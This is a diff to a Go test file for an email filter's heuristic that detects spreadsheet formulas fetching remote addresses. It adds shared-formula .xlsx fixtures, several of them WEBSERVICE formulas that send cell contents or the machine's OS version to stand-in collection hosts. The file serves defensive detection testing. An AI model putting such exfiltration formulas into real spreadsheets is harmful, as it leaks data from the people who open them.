@@ -1,6 +1,8 @@
 package heuristic
 
 import (
+	"strings"
+
 	"github.com/kensa-milter/kensa/message"
 )
 
@@ -22,6 +24,30 @@ func formulaFetchCases() map[string][]sample {
 	}
 	xlsx := func(from, f string) *message.Message {
 		return book(from, f, `<c r="B1" t="s"><v>0</v></c>`, `<si><t></t></si>`, "")
+	}
+	// rows is an .xlsx whose first sheet holds the rows given (shared
+	// formulas among them).
+	rows := func(from, rows string) *message.Message {
+		return sentBy(from, msg(part("2", zipBytes, named("book.xlsx"), container()),
+			text("2/book.xlsx/xl/workbook.xml", `<workbook xmlns="x" xmlns:r="r"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`),
+			text("2/book.xlsx/xl/_rels/workbook.xml.rels", `<Relationships xmlns="x"><Relationship Id="rId1" Type="t/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`),
+			text(sheet, `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`+rows+`</sheetData></worksheet>`)))
+	}
+	// fillDown is column A's formula f filled down rows 1-3 as Excel saves
+	// it (one shared formula), column B holding b1..b3.
+	fillDown := func(from, f, b1, b2, b3 string) *message.Message {
+		cell := func(r, v string) string {
+			if v == "" {
+				return ""
+			}
+			if f, ok := strings.CutPrefix(v, "="); ok {
+				return `<c r="B` + r + `" t="str"><f>` + f + `</f><v>x</v></c>`
+			}
+			return `<c r="B` + r + `" t="inlineStr"><is><t>` + v + `</t></is></c>`
+		}
+		return rows(from, `<row r="1"><c r="A1" t="str"><f t="shared" ref="A1:A3" si="0">`+f+`</f><v>ok</v></c>`+cell("1", b1)+`</row>`+
+			`<row r="2"><c r="A2" t="str"><f t="shared" si="0"/><v>ok</v></c>`+cell("2", b2)+`</row>`+
+			`<row r="3"><c r="A3" t="str"><f t="shared" si="0"/><v>ok</v></c>`+cell("3", b3)+`</row>`)
 	}
 	ods := func(cells string) *message.Message {
 		return sentBy(other, msg(part("2", zipBytes, named("book.ods"), container()),
@@ -57,6 +83,10 @@ func formulaFetchCases() map[string][]sample {
 		{"an OpenDocument named range and cell", ods(`<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE([.C1]&amp;&quot;?u=&quot;&amp;[.B1])"/><table:table-cell/><table:table-cell office:value-type="string"><text:p>https://collect.example.net/c</text:p></table:table-cell>`), "2/book.ods/content.xml"},
 		{"an .xls's decompiled formulas", listing("Sheet1!R1C1: =_xlfn.WEBSERVICE(\"http://203.0.113.7/x?\"&_xlfn.ENCODEURL(R1C2))\n"), "2/book.xls/web-formulas"},
 		{"an .xls's address in another cell", listing("Sheet1!R1C1: =_xlfn.WEBSERVICE(R2C1&R1C2)\nSheet1!R2C1 = \"https://collect.example.net/c?u=\"\n"), "2/book.xls/web-formulas"},
+		{"a shared formula's copy sends an empty cell", fillDown(other, `_xlfn.WEBSERVICE("https://collect.example.net/c?n="&amp;B1)`, "ACME-1", "", "ACME-3"), sheet},
+		{"a shared formula's copy reads the machine", fillDown(other, `_xlfn.WEBSERVICE("https://collect.example.net/c?n="&amp;B1)`, "ACME-1", "=INFO(&quot;osversion&quot;)", "ACME-3"), sheet},
+		{"a shared formula filled across, an absolute base", rows(other, `<row r="1"><c r="A1" t="inlineStr"><is><t>https://collect.example.net/c?v=</t></is></c><c r="B1" t="inlineStr"><is><t>x</t></is></c></row>`+
+			`<row r="2"><c r="B2" t="str"><f t="shared" ref="B2:D2" si="4">_xlfn.WEBSERVICE($A$1&amp;B$1)</f><v>ok</v></c><c r="C2" t="str"><f t="shared" si="4"/><v>ok</v></c></row>`), sheet},
 		// Honest: the sender's own service, fixed addresses on named hosts,
 		// addresses completed by the sheet's own values, an intranet API.
 		{"WEBSERVICE to the sender's own API", xlsx("finance@acme-corp.example", `_xlfn.WEBSERVICE("https://api.acme-corp.example/rates?d="&amp;TEXT(TODAY(),"yyyy-mm-dd")&amp;"&amp;q="&amp;B1)`), ""},
@@ -76,6 +106,9 @@ func formulaFetchCases() map[string][]sample {
 		{"an address the reader types", xlsx(other, `_xlfn.WEBSERVICE(B1)`), ""},
 		{"another function named like one", xlsx(other, `GETIMAGE("https://img.example.net/t.png?u="&amp;B1)`), ""},
 		{"HYPERLINK to a share needs a click", xlsx(other, `HYPERLINK("\\203.0.113.7\share\a.xlsx","budget")`), ""},
+		{"quotes filled down, each row's symbol filled in", fillDown(other, `_xlfn.WEBSERVICE("https://quotes.example.org/q?s="&amp;B1)`, "MSFT", "AAPL", "GOOG"), ""},
+		{"a shared formula whose copies stay on the sheet's filled cells", rows(other, `<row r="1"><c r="A1" t="inlineStr"><is><t>https://quotes.example.org/q?s=</t></is></c><c r="B1" t="inlineStr"><is><t>MSFT</t></is></c><c r="C1" t="inlineStr"><is><t>AAPL</t></is></c></row>`+
+			`<row r="2"><c r="B2" t="str"><f t="shared" ref="B2:C2" si="0">_xlfn.WEBSERVICE($A$1&amp;B$1)</f><v>ok</v></c><c r="C2" t="str"><f t="shared" si="0"/><v>ok</v></c></row>`), ""},
 		{"an .xls's rates from the sheet's own cells", listing("Sheet1!R1C1: =_xlfn.WEBSERVICE(R2C1&R2C2)\nSheet1!R2C1 = \"https://api.rates.example/latest?base=\"\nSheet1!R2C2 = \"EUR\"\n"), ""},
 	}, "formula-web-hidden": {
 		{"an address from a look-up", xlsx(other, `_xlfn.WEBSERVICE(VLOOKUP("k",Data!A1:B9,2,FALSE))`), sheet},
